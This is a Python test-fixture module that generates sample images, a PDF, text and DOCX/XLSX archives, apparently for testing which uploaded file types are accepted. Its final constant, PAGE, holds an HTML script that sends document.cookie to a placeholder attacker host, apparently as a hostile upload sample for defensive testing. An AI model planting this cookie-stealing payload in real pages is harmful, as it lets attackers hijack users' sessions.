"""Files of every kind that is taken, and some that only seem to be."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from core.content import DOCX, XLSX

SIDEWAYS = 6


def picture(format: str = "PNG", size: tuple[int, int] = (40, 30), color: str = "teal") -> bytes:
    file = BytesIO()
    Image.new("RGB", size, color).save(file, format)
    return file.getvalue()


def sideways() -> bytes:
    """A photograph of 40 by 30, taken with the camera held on its side."""
    file, exif = BytesIO(), Image.Exif()
    exif[0x0112] = SIDEWAYS
    Image.new("RGB", (40, 30)).save(file, "JPEG", exif=exif)
    return file.getvalue()


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def archive(**entries: str | bytes) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as open_:
        for name, content in entries.items():
            open_.writestr(name, content)
    return file.getvalue()


def office(type: str = DOCX, **entries: str | bytes) -> bytes:
    """What makes a .docx or .xlsx one: the type of its main part."""
    types = f'<Types><Override PartName="/main.xml" ContentType="{type}.main+xml"/></Types>'
    return archive(**{"[Content_Types].xml": types, "main.xml": "<main/>"} | entries)


TEXT = "Grüße aus Köln, नमस्ते!\r\n\tDrei & mehr: 2 < 3.\n".encode()
TAKEN = {
    "image/png": picture("PNG"),
    "image/jpeg": picture("JPEG"),
    "image/webp": picture("WEBP"),
    "image/gif": picture("GIF"),
    "application/pdf": pdf(),
    "text/plain": TEXT,
    DOCX: office(DOCX),
    XLSX: office(XLSX),
}
PAGE = b"<!doctype html><script>fetch('//thief.example/'+document.cookie)</script>"
